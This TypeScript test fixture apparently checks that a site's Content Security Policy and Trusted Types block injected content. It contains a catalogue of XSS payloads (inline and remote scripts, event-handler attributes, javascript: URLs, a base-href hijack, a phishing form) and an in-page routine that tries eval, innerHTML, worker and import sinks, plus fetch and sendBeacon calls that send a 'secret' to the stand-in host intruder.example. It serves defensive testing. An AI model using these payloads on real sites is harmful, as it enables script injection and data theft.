/** A host that no page may send a request to. */
export const attackerHost = 'intruder.example';

const attackerOrigin = `https://${attackerHost}`;

/** Markup that attacks a page without a Content Security Policy: a script that runs sets `intruder` to its name. */
export const maliciousMarkup = `
  <script>intruder = 'inline script'</script>
  <script src="${attackerOrigin}/x.js"></script>
  <script src="data:text/javascript,intruder='data script'"></script>
  <script type="module" src="${attackerOrigin}/x.mjs"></script>
  <script type="importmap">{ "imports": { "/_astro/": "${attackerOrigin}/" } }</script>
  <img src="/no.png" onerror="intruder = 'onerror'">
  <img src="${attackerOrigin}/spy.png">
  <details open ontoggle="intruder = 'ontoggle'"></details>
  <svg onload="intruder = 'svg onload'"><script>intruder = 'svg script'</script><use href="${attackerOrigin}/x.svg#a"/></svg>
  <a id="lure" href="javascript:intruder = 'javascript link'">x</a>
  <style>body { outline: 9px solid red }</style>
  <link rel="stylesheet" href="${attackerOrigin}/x.css">
  <p id="styled" style="outline: 9px solid red">x</p>
  <base href="${attackerOrigin}/">
  <form id="phish" action="${attackerOrigin}/mail" method="post"><input name="rfc" value="x"></form>
  <object data="${attackerOrigin}/x.swf"></object>
  <embed src="${attackerOrigin}/x.pdf">
  <iframe src="${attackerOrigin}/"></iframe>
  <iframe src="javascript:parent.intruder = 'javascript frame'"></iframe>
  <iframe srcdoc="<script>parent.intruder = 'srcdoc'</script>"></iframe>
  <video src="${attackerOrigin}/x.mp4"></video>
  <meta http-equiv="content-security-policy" content="script-src * 'unsafe-inline'">`;

/** The directives that `maliciousMarkup` and `attemptInjections` violate together. */
export const violatedDirectives = [
  'script-src-elem',
  'script-src-attr',
  'style-src-elem',
  'style-src-attr',
  'img-src',
  'media-src',
  'object-src',
  'frame-src',
  'base-uri',
  'form-action',
  'connect-src',
  'worker-src',
  'require-trusted-types-for',
  'trusted-types',
];

/**
 * Attempts what an injected script would try next. Runs in the page.
 * @returns the names of the attempts that were not rejected
 */
export async function attemptInjections(host: string): Promise<string[]> {
  const origin = `https://${host}`;
  const { trustedTypes } = globalThis as unknown as {
    trustedTypes: { createPolicy: (name: string, rules: object) => { createScriptURL: (url: string) => string } };
  };
  const appendElement = <K extends keyof HTMLElementTagNameMap>(tag: K): HTMLElementTagNameMap[K] =>
    document.body.appendChild(document.createElement(tag));
  const code = 'intruder = "late"';
  const markup = `<img src=x onerror='${code}'>`;
  /* oxlint-disable typescript/no-implied-eval, typescript/no-unsafe-call, typescript/no-deprecated
     -- the test expects them to be rejected */
  const attempts: Record<string, () => unknown> = {
    innerHTML: () => (appendElement('div').innerHTML = markup),
    outerHTML: () => (appendElement('div').outerHTML = markup),
    insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', markup),
    'document.write': () => document.write(markup),
    parseFromString: () => new DOMParser().parseFromString(markup, 'text/html'),
    createContextualFragment: () => document.createRange().createContextualFragment(markup),
    srcdoc: () => (appendElement('iframe').srcdoc = markup),
    'script text': () => (appendElement('script').text = code),
    'script src': () => (appendElement('script').src = `${origin}/x.js`),
    'handler attribute': () => appendElement('div').setAttribute('onclick', code),
    eval: () => void (0, eval)(code),
    Function: () => void new Function(code)(),
    'string timer': () => setTimeout(code),
    'new policy': () => trustedTypes.createPolicy('intruder', {}),
    'default policy': () => trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
    'data URL worker': () => new Worker(`data:text/javascript,${code}`),
    'blob worker': () => new Worker(URL.createObjectURL(new Blob([code]))),
    'shared worker': () => new SharedWorker('data:text/javascript,'),
    import: () => import(/* @vite-ignore */ `${origin}/x.mjs`),
    'data URL import': () => import(/* @vite-ignore */ `data:text/javascript,${code}`),
    fetch: () => fetch(`${origin}/?secret`, { mode: 'no-cors' }),
  };
  /* oxlint-enable typescript/no-implied-eval, typescript/no-unsafe-call, typescript/no-deprecated */
  // Leaves Playwright's evaluate call, during which pages may create code from strings.
  await new Promise(requestAnimationFrame);
  const isRejected = (attempt: () => unknown): Promise<boolean> =>
    new Promise((resolve) => resolve(attempt())).then(
      () => false,
      () => true,
    );
  const notRejected: string[] = [];
  await Promise.all(
    Object.entries(attempts).map(async ([name, attempt]) => {
      if (!(await isRejected(attempt))) notRejected.push(name);
    }),
  );
  // These fail without an error; the test checks that they have no effect.
  appendElement('script').append(code);
  appendElement('div').setAttribute('style', 'outline: 9px solid red');
  navigator.sendBeacon(`${origin}/beacon`, 'secret');
  // The name of a Trusted Types policy that the page may use, and has not used yet.
  const borrowedPolicy = trustedTypes.createPolicy('search-worker', { createScriptURL: (url: string) => url });
  new Worker(borrowedPolicy.createScriptURL(`data:text/javascript,${code}`)).onerror = null;
  document.querySelector<HTMLAnchorElement>('#lure')?.click();
  document.querySelector<HTMLFormElement>('#phish')?.submit();
  await new Promise(requestAnimationFrame);
  return notRejected;
}
